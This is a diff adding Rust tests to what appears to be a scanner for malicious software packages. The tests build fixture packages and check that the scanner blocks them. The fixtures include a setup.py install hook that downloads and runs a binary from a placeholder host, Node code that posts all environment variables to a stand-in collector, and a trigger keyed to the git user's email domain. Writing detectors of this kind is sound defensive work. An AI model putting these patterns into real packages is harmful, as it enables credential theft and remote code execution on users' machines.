@@ -401,3 +401,72 @@ fn what_is_loaded_by_another_way_does_not_wait() {
     assert_eq!(verdict_of("import sys\nsys.path.insert(0, __path__[0] + '/data/a-b')\nimport thief\n"), "block");
     assert_eq!(verdict_of("import runpy\nrunpy.run_path(__path__[0] + '/data/a-b/thief.py')\n"), "block");
 }
+
+#[test]
+fn a_script_of_an_installation_is_one_whatever_lies_beside_it() {
+    let setup = "import urllib.request, os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\
+                 class I(install):\n    def run(self):\n        install.run(self)\n        \
+                 urllib.request.urlretrieve('https://h.invalid/x', '/tmp/x')\n        os.chmod('/tmp/x', 0o755)\n        \
+                 os.system('/tmp/x')\nsetup(name='inert', version='1.0', cmdclass={'install': I})\n";
+    let folder = Folder::new();
+    let info = "Metadata-Version: 2.1\nName: inert\nVersion: 1.0\n";
+    let files = [
+        ("inert-1.0/PKG-INFO", info),
+        ("inert-1.0/setup.py", setup),
+        ("inert-1.0/__init__.py", ""),
+        ("inert-1.0/inert/__init__.py", "VALUE = 1\n"),
+    ];
+    let path = folder.put("inert-1.0.tar.gz", gzip_of(&tar_of(files)));
+    let run = records_of(scan([path.into_os_string()]));
+    let artifact = run.artifact("inert-1.0.tar.gz");
+    assert_eq!(artifact["verdict"], "block");
+    let rules: Vec<&str> = artifact["findings"].as_array().unwrap().iter().filter_map(|f| f["rule"].as_str()).collect();
+    assert!(rules.iter().any(|rule| rule.contains("chain-followed-at-install")), "{rules:?}");
+}
+
+#[test]
+fn modules_that_compilers_wrote_are_followed() {
+    let index = "const t = require('./t');\nrequire('https').request({ host: 'collect.invalid', method: 'POST' }).end(t.collect());\n";
+    let own = "function collect() { return JSON.stringify(process.env); }\n";
+    let bundled = format!(
+        "var __defProp = Object.defineProperty;\nvar __getOwnPropNames = Object.getOwnPropertyNames;\n\
+         var __export = (target, all) => {{ for (var name in all) __defProp(target, name, {{ get: all[name], enumerable: true }}); }};\n\
+         var __copyProps = (to, from) => {{ for (let key of __getOwnPropNames(from)) __defProp(to, key, {{ get: () => from[key] }}); return to; }};\n\
+         var __toCommonJS = (mod) => __copyProps(__defProp({{}}, '__esModule', {{ value: true }}), mod);\n\
+         var t_exports = {{}};\n__export(t_exports, {{ other: () => other, collect: () => collect }});\n\
+         module.exports = __toCommonJS(t_exports);\nfunction other() {{ return 1; }}\n{own}"
+    );
+    let given_on = "exports.collect = void 0;\nvar u_1 = require('./u');\n\
+                    Object.defineProperty(exports, 'collect', { enumerable: true, get: function () { return u_1.collect; } });\n";
+    let last = format!("exports.collect = collect;\n{own}");
+    let first = [("package/package.json", MANIFEST), ("package/index.js", index)];
+    assert_eq!(verdict(&[first[0], first[1], ("package/t.js", bundled.as_str())]), "block");
+    assert_eq!(verdict(&[first[0], first[1], ("package/t.js", given_on), ("package/u.js", last.as_str())]), "block");
+}
+
+#[test]
+fn a_list_of_digests_may_lie_in_another_file_than_who_is_looked_for() {
+    let index = "const { owner } = require('./owner');\nconst { listed } = require('./shards');\n\
+                 exports.pad = (line) => listed(owner()) ? line + ' ' : line;\n";
+    let owner = "const { execSync } = require('child_process');\n\
+                 exports.owner = () => execSync('git config user.email').toString().trim().split('@')[1];\n";
+    let shards = "function fnv(s) { let h = 0x811c9dc5; for (let i = 0; i < s.length; i++) { h ^= s.charCodeAt(i); h = Math.imul(h, 0x01000193); } return h >>> 0; }\n\
+                  const hot = [0x4d5efa76, 0x9d594ec8, 0x395f1765];\n\
+                  exports.shard = (key) => fnv(key) % 16;\n";
+    let package = |listed: &str| {
+        let folder = Folder::new();
+        let shards = format!("{shards}{listed}");
+        let files = [
+            ("package/package.json", MANIFEST),
+            ("package/index.js", index),
+            ("package/owner.js", owner),
+            ("package/shards.js", shards.as_str()),
+        ];
+        let path = folder.put("inert-1.0.0.tgz", gzip_of(&tar_of(files)));
+        let run = records_of(scan([path.into_os_string()]));
+        let findings = run.artifact("inert-1.0.0.tgz")["findings"].as_array().unwrap().clone();
+        findings.iter().any(|f| f["rule"].as_str().is_some_and(|r| r.ends_with("flow-surroundings-in-hidden-list")))
+    };
+    assert!(package("exports.listed = (key) => hot.includes(fnv(key));\n"));
+    assert!(!package("exports.listed = (key) => fnv(key) % 100 < 5;\n"));
+}
